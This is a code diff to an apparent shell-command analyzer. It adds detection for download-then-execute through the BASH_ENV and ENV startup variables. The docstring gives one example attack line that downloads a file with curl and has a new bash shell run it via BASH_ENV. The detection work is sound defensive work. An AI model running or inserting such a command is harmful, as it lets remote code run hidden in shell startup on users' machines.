@@ -68,7 +68,23 @@ def code_variable(run: Run, name: str, value: Field, span: tuple[int, int]) -> N
     run.run_code(Field(text, span), name, span, None, positional=[])
 
 
+def startup_files(run: Run, inv: Invocation) -> None:
+    """A shell starting reads ``$BASH_ENV``/``$ENV``: set earlier, the file they name may have
+    been downloaded since (``export BASH_ENV=/tmp/x; curl -o /tmp/x u; bash s.sh``)."""
+    for name in ("BASH_ENV", "ENV"):
+        var = run.env.get(name)
+        if var is None:
+            continue
+        for value in var.alts:
+            taint = file_taint(run.files, norm_path(value, run.cwd))
+            if taint:
+                download_exec(run, Field(value, inv.word.span), taint, f"{name} of {inv.name}")
+                return
+
+
 def shell_program(run: Run, inv: Invocation, stdin: Flow | None) -> Flow:
+    if run.files:
+        startup_files(run, inv)
     args = inv.args
     i = 0
     want_code = False
